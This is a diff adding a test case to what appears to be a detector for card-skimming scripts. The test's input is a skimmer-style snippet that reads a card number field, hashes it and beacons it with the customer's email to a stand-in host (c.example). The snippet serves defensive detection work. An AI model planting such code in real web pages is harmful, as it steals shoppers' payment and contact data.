@@ -78,4 +78,12 @@ describe('emulator: forms and fields that are not of the card', () => {
       });`);
     assert.deepEqual(flows, []);
   });
+
+  it('finds the card that is enciphered beside an address in clear', async () => {
+    const flows = await flowsOf(`
+      var n = document.querySelector('#cc_number').value, h = 0;
+      for (var i = 0; i < n.length; i++) h = (h * 31 + n.charCodeAt(i) * 7919) % 1000000007;
+      navigator.sendBeacon('https://c.example/', JSON.stringify({ m: document.querySelector('#customer-email').value, k: h }));`);
+    assert.ok(flows.some(({ field, proof }) => field === 'card-number' && proof === 'dependence'));
+  });
 });
